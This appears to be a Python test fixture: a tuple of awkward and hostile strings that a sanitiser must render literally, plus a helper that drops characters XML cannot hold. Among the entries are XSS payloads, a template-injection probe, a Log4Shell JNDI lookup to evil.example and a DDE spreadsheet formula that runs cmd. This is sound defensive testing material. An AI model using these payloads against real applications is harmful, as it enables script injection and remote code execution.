"""Words nobody should type and somebody will: each must come out as words, letter for letter."""

HOSTILE = (
    # Markup of other kinds
    "Research & Development",
    "R&D <b>today</b>",
    "5 < 6 > 4",
    "\"quoted\" and 'quoted'",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- toc -->",
    "<!-- page-break -->",
    "<!-- cover -->",
    "--> <!-- table: x | 1 -->",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>",
    "</w:t></w:r></w:p>",
    "&amp; &lt; &#65; &#x41; &nbsp;",
    "{{ 7 * 7 }}",
    "{% raw %} {% endraw %}",
    "{# a note #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://evil.example/a}",
    "%s %d %(name)s {0} {name}",
    # Markdown
    "---",
    "***",
    "===",
    "- not a bullet",
    "* not a bullet",
    "+ not a bullet",
    "1. no",
    "12) no",
    "# no",
    "###### no ######",
    "> no",
    "**not bold** __nor this__",
    "*not italic* _nor this_",
    "~~not struck~~ ~nor this~",
    "`not code` ``nor this``",
    "```",
    "~~~ python",
    "![x](http://evil.example/x.png)",
    "![x][y]",
    "[a](javascript:alert(1))",
    "[a](https://evil.example)",
    "[a]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example/?a=1&b=2",
    "asha@example.org",
    "[^1] [ ] [x]",
    "a | b | c",
    "| a | b |",
    "|---|---|",
    r"a\|b",
    r"\\|",
    r"ends with a backslash \\"[:-1],
    r"C:\new\table",
    r"\* \_ \` \# \[",
    "two\\",
    # Streamlit
    ":red[hi]",
    ":blue-background[hi]",
    ":material/home:",
    ":smile: :streamlit:",
    "$x$ and $$y$$",
    "costs $5 and $6",
    "a -- b -> c <- d <-> e >= f <= g ~= h",
    ":small[hi] :badge[hi]",
    # Spreadsheets
    "=1+1",
    '=cmd|" /C calc"!A0',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    # Letters
    "🧑🏽‍🦽 👩‍👩‍👧 🏳️‍🌈 ☕",
    "مرحبا بكم 12 مارس",
    "שלום abc עולם",
    "cafe\u0301 and café, ﬁne",
    "zero\u200bwidth\u200dand\u2060joiners",
    "\u202eright to left override\u202c",
    "a\u00a0b\u00a0c",
    "Łódź, Þór, ǅ, 𐍈𐌰",
    "漢字かな交じり文",
    "null \x00 bell \x07 escape \x1b[31m",
    "form\x0cfeed and vertical\x0btab",
    "half a pair \ud83d and \udc00",
    "not letters \ufffe \uffff",
    "next\x85line and line\u2028separator",
    "Mill Lane\r\nNorthfield\rNF1\n\n2AB",
    "  spaces   before,  between   and after  ",
    "\ttabs\tand\ttabs",
    "x" * 20_000,
    "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch" * 3,
    "many words " * 500,
    "None null NaN undefined True 0",
)


def on_one_line(typed: str) -> str:
    """What must be left of something typed: no character a file cannot hold, and spaces for gaps."""
    held = "".join(letter for letter in typed if letter in "\t\n\r" or _can_be_held(ord(letter)))
    for gap in "\t\n\r\x85\u2028\u2029":
        held = held.replace(gap, " ")
    while "  " in held:
        held = held.replace("  ", " ")
    return held.strip()


def _can_be_held(code: int) -> bool:
    """XML 1.0, second production: Char."""
    return 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or code >= 0x10000
